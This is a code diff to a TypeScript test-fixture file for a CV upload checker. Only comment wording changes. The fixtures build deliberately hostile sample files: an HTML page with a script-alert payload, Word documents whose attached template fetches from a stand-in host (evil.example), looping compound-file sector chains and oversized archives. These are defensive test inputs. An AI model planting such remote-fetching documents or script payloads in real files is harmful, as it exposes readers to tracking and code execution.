@@ -11,7 +11,7 @@ import {
 } from './office-files.ts';
 import { gif, pngOfSize } from './picture-files.ts';
 
-/** Files that are sent as a CV, and are none or one that would harm whoever opens it: name, bytes, what they claim. */
+/** Files sent as a CV that are not one, or would harm its reader: name, bytes, claimed type. */
 export type HostileFile = [what: string, name: string, bytes: () => Buffer, type?: string];
 
 const PDF_FILE = '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n';
@@ -22,7 +22,7 @@ const PAGE = '<!doctype html><script>alert(document.domain)</script>';
 const text = (content: string) => () => Buffer.from(content, 'latin1');
 const glued = (...parts: (string | Buffer)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
 const word = (...more: ZipPart[]) => zipOf([...wordParts(), ...more]);
-/** The document with one part in another form. */
+/** The document with one part changed. */
 const wordWith = (name: string, change: Partial<ZipPart>) =>
   zipOf(wordParts().map((part) => (part.name === name ? { ...part, ...change } : part)));
 const typesOf = (from: string, to: string) =>
@@ -170,7 +170,7 @@ export const NO_OLD_DOCUMENTS: HostileFile[] = [
   ['of web pages', 'cv.doc', text('MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n'), DOC],
 ];
 
-/** Word documents that are what they say, and fetch something when they are opened. */
+/** Valid Word documents that fetch something when they are opened. */
 export const REACHING_OUT: HostileFile[] = [
   ['a template', 'cv.docx', () => docxReferringTo('attachedTemplate', 'https://evil.example/t.dotm'), DOCX],
   [
@@ -200,13 +200,13 @@ export const REACHING_OUT: HostileFile[] = [
   ],
 ];
 
-/** The compound file whose chain goes on from a sector to another. */
+/** A compound file whose chain links one sector to another. */
 function chained(from: number, to: number): Buffer {
   const bytes = compoundFile('WordDocument');
   bytes.writeUInt32LE(to, 512 + from * 4);
   return bytes;
 }
 
-/** More parts than fit into the largest file that is taken. */
+/** More parts than fit into the largest accepted file. */
 export const docxOfManyParts = (count: number): Buffer =>
   word(...Array.from({ length: count }, (_, index) => ({ name: `${index}`, content: '' })));
